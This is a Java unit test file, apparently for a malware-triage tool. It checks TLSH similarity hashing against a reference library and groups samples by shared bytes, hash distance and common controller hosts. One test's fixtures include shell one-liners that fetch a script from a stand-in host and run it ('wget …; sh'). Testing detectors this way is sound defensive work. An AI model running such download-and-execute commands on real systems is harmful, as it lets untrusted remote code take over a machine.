package teiten.sample;

import static org.assertj.core.api.Assertions.assertThat;

import com.idealista.tlsh.TLSH;
import com.idealista.tlsh.buckets.BucketProcessor;
import com.idealista.tlsh.digests.Digest;
import com.idealista.tlsh.exceptions.InsufficientComplexityException;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

final class LikenessTest {
    private final SampleReader reader = new SampleReader(FamilyRules.builtIn());

    @Test
    void the_fast_count_gives_the_librarys_hash_for_every_fixture_and_for_bytes_of_any_length()
            throws IOException {
        List<byte[]> inputs = new ArrayList<>();
        for (Path file : Fixtures.all()) {
            inputs.add(Files.readAllBytes(file));
        }
        java.util.Random random = new java.util.Random(9);
        for (int i = 0; i < 200; i++) {
            byte[] bytes = new byte[random.nextInt(3000)];
            random.nextBytes(bytes);
            for (int b = 0; i % 3 == 0 && b < bytes.length; b++) {
                bytes[b] &= 3;
            }
            inputs.add(bytes);
        }
        int known = 0;
        for (byte[] bytes : inputs) {
            Fact fast = Hashes.tlsh(bytes);
            String oracle;
            try {
                // the library reads characters as bytes, so they go in as ISO-8859-1
                oracle = new TLSH(new String(bytes, StandardCharsets.ISO_8859_1)).hash();
            } catch (InsufficientComplexityException simple) {
                oracle = "unknown";
            }
            if (bytes.length >= 50) {
                assertThat(fast.value()).isEqualTo(oracle);
                known += fast.isKnown() ? 1 : 0;
            }
        }
        assertThat(known).isGreaterThan(200);
    }

    @Test
    void the_distance_of_two_written_hashes_equals_the_librarys() throws IOException {
        List<Digest> digests = new ArrayList<>();
        List<String> hashes = new ArrayList<>();
        for (Path file : Fixtures.all()) {
            byte[] bytes = Files.readAllBytes(file);
            Fact hash = Hashes.tlsh(bytes);
            if (hash.isKnown() && digests.size() < 60) {
                String text = new String(bytes, StandardCharsets.ISO_8859_1);
                digests.add(new BucketProcessor().process(text).buildDigest());
                hashes.add(hash.value());
            }
        }
        assertThat(digests).hasSize(60);
        for (int a = 0; a < digests.size(); a++) {
            for (int b = 0; b < digests.size(); b++) {
                assertThat(TlshDistance.between(hashes.get(a), hashes.get(b)))
                        .as(hashes.get(a) + " " + hashes.get(b))
                        .isEqualTo(digests.get(a).calculateDifference(digests.get(b), true));
            }
        }
    }

    @Test
    void one_source_built_for_two_powerpc_variants_is_a_group_and_says_why() {
        Likeness likeness = new Likeness();
        for (String name :
                List.of(
                        "own/tiny.ppc",
                        "own/tiny.ppc440",
                        "debian/crt1.o.sparc64",
                        "own/tiny.ppc")) {
            likeness.add(name, reader.read(Fixtures.bytes(name)));
        }
        List<Likeness.Group> groups = likeness.groups();
        assertThat(groups).hasSize(1);
        assertThat(groups.get(0).members()).containsExactly(0, 1, 3);
        assertThat(groups.get(0).links())
                .extracting(Likeness.Link::kind)
                .containsExactlyInAnyOrder("same-bytes", "tlsh");
        assertThat(likeness.neighbours(0, 5))
                .extracting(Likeness.Link::to)
                .contains(1, 3)
                .doesNotContain(2);
    }

    @Test
    void two_unlike_files_that_name_one_controller_are_connected_by_it() {
        Likeness likeness = new Likeness();
        likeness.add(
                "a", reader.read(BenignBot.hiding(List.of("http://bad.example.test/a"), 0, 3000)));
        likeness.add(
                "b",
                reader.read(
                        "#!/bin/sh\nwget http://bad.example.test/other; sh other\n"
                                .getBytes(StandardCharsets.UTF_8)));
        likeness.add(
                "c",
                reader.read(
                        "#!/bin/sh\nwget http://else.example.test/o; sh o\n"
                                .getBytes(StandardCharsets.UTF_8)));
        List<Likeness.Group> groups = likeness.groups();
        assertThat(groups).hasSize(1);
        assertThat(groups.get(0).members()).containsExactly(0, 1);
        assertThat(groups.get(0).links().get(0).evidence())
                .isEqualTo("1 in common: bad[.]example[.]test");
    }
}
